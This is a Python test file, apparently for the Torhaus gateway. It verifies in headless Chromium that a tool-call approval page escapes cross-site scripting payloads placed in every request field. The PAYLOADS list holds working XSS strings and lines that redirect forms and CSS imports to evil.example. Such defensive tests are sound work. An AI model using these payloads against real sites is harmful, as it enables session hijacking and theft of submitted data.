"""What attackers write into calls is text in a real browser: nothing of it runs."""

import asyncio
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.torhaus.admin.hall import ALICE
from tests.torhaus.api.counter import Counter, counter

CHROMIUM = next(
    (
        found
        for name in ("chromium", "chromium-browser", "google-chrome")
        if (found := shutil.which(name))
    ),
    None,
)
OWN = "document.title='owned'"
PAYLOADS = (
    f"<script>{OWN}</script>",
    f'<img src=x onerror="{OWN}">',
    f'<svg onload="{OWN}"></svg>',
    f'"><script>{OWN}</script>',
    f"' autofocus onfocus=\"{OWN}\" x='",
    f"</pre><script>{OWN}</script>",
    f"</title><script>{OWN}</script>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f'<a href="javascript:{OWN}" id=x>x</a>',
    f'<details open ontoggle="{OWN}">',
    '<base href="https://evil.example/"><form action=https://evil.example/>',
    f"{{{{ 7*7 }}}}<style>@import'//evil.example'</style><body onload=\"{OWN}\">",
)
FIELDS = ("requester", "email", "server", "tool", "arguments", "policy", "reason")


def dom(url: str, home: Path) -> str:
    """The page as the browser has it after everything that runs has run."""
    assert CHROMIUM is not None
    command = [
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        f"--user-data-dir={home / 'profile'}",
        "--virtual-time-budget=3000",
        "--dump-dom",
        url,
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True)
    return done.stdout


@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")
def test_payloads_in_every_field_of_an_approval_run_nowhere(tmp_path: Path) -> None:
    control = "<title>page</title>" + PAYLOADS[1]
    (tmp_path / "control.html").write_text(control)
    assert "<title>owned</title>" in dom((tmp_path / "control.html").as_uri(), tmp_path)

    async def story() -> str:
        async with counter(tmp_path) as at:
            return await shown(at, tmp_path)

    page = asyncio.run(story())

    assert "<title>Approve a call | Torhaus</title>" in page
    assert page.count("<script") == 0
    assert "<img" not in page
    assert "<iframe" not in page
    assert "<base" not in page
    assert "&lt;script&gt;" in page


async def shown(at: Counter, home: Path) -> str:
    evil = "\n".join(PAYLOADS)
    fields = {name: evil for name in FIELDS if name != "requester"}
    asked = await at.hall.asked(**fields, requester=ALICE.id)
    url = at.hall.links.url(asked) or ""
    path = url.removeprefix("https://gw.example.org")
    answer = await at.ask("GET", path)
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    return await asyncio.to_thread(dom, f"http://127.0.0.1:{at.port}{path}", home)
